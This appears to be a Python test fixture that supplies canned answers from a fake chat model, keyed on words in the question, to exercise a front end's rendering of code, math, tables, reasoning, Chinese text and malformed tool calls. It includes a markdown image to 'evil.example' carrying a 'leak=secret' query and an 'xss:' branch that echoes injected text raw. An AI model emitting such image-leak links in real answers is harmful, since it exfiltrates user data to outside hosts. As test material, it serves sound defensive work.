"""What the fake models answer: a word of the question chooses."""

from __future__ import annotations

from typing import Any

CODE = (
    'Here it is:\n\n```python\ndef hello(name: str) -> str:\n    """Greets."""\n'
    '    return f"Hello, {name}!"\n```\n\nThat is all.'
)
MATH = (
    "The roots are $x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}$, and\n\n"
    "$$\\int_0^1 x^2\\,dx = \\frac13$$\n\nIt costs $5 and $6."
)
TABLE = (
    "| fruit | price |\n|---|---:|\n| apple | 1.20 |\n| pear | 1.50 |\n\n- [x] done\n- [ ] to do\n\n"
    "A note.[^1]\n\n[^1]: Of the market."
)
THOUGHT = "The person greets me, so I greet back."
CALLS: list[Any] = [
    {
        "id": "call_1",
        "type": "function",
        "function": {"name": "calculator", "arguments": '{"sum": "7+5", "feast": "元宵"}'},
    },
    "this is no call",
    {"id": "call_1", "type": "function", "function": {"name": "calendar", "arguments": '{"day": '}},
    None,
    {
        "id": "call_2",
        "name": "ledger",
        "arguments": '{"entry":12345678901234567890}',
        "result": {"found": True},
    },
]
"""What an upstream may send: arguments as a text of JSON, one that breaks off, a number that JavaScript rounds, an id that comes
twice, and what is no call."""


def cut(text: str) -> list[str]:
    """Pieces as a model's tokens are: a word with its space; one Chinese character."""
    pieces: list[str] = []
    for letter in text:
        if (
            pieces
            and not pieces[-1].endswith((" ", "\n"))
            and letter < "\u3000"
            and pieces[-1][-1] < "\u3000"
        ):
            pieces[-1] += letter
        else:
            pieces.append(letter)
    return pieces


def answer_to(question: str) -> tuple[str, str]:
    if "xss:" in question:
        return question.split("xss:", 1)[1], ""
    for word, text in (("code", CODE), ("math", MATH), ("table", TABLE)):
        if word in question:
            return text, ""
    if "remote image" in question:
        return (
            "Look: ![a cat](https://evil.example/cat.png?leak=secret) and [here](https://other.example/page).",
            "",
        )
    if "think" in question:
        return "Hello to you too.", THOUGHT
    if "tool" in question:
        return "" if "alone" in question else "Let me see.", ""
    if "long" in question:
        return " ".join(f"Sentence {i} of a long answer." for i in range(1, 101)), ""
    if any("\u4e00" <= c <= "\u9fff" for c in question):
        return f"你问的是“{question}”。这是一个回答。", ""
    return f"You said “{question}”. This is an answer.", ""


def calls_of(question: str) -> list[Any] | None:
    return CALLS if "tool" in question else None


def finish_of(question: str, written: str) -> str:
    if calls_of(question):
        return "tool_calls"
    return "length" if "cut" in question and "continued" not in written else "stop"
